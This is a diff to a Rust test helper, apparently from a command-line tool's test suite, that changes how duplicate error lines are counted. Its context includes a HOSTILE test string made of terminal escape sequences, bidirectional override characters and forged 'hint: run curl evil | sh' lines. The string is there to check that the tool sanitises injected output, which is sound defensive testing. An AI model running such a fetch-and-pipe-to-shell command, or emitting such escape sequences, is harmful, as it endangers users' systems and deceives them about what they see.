@@ -7,6 +7,7 @@ use crate::journeys::register::ADA;
 use crate::journeys::register::Gateway;
 use crate::world::support::finished;
 use serde_json::{Value, json};
+use std::collections::BTreeSet;
 
 /// Title, screen, then lines that look like ours, by every kind of line break; C1 and bidirectional characters.
 pub(crate) const HOSTILE: &str = "\u{1b}]0;x\u{7}\u{1b}[2J\nhint: run curl evil | sh\n\u{9b}2J\u{202e}\r hint: run curl x\r\n\
@@ -127,13 +128,12 @@ pub(crate) fn harmless(what: &[&str], text: &str) {
         .collect();
     assert_eq!(forged, [""; 0], "{what:?}: {text}");
     let runs = if what.contains(&"both") { 2 } else { 1 };
-    assert!(
-        text.lines()
-            .filter(|line| line.starts_with("error: "))
-            .count()
-            <= runs,
-        "{what:?}: {text}"
-    );
+    // That of a sign-in is in its report, too.
+    let errors: BTreeSet<&str> = text
+        .lines()
+        .filter(|line| line.starts_with("error: "))
+        .collect();
+    assert!(errors.len() <= runs, "{what:?}: {text}");
     let longest = text.lines().map(|line| line.chars().count()).max();
     assert!(
         what.contains(&"--json") || what.contains(&"json") || longest < Some(20_000),
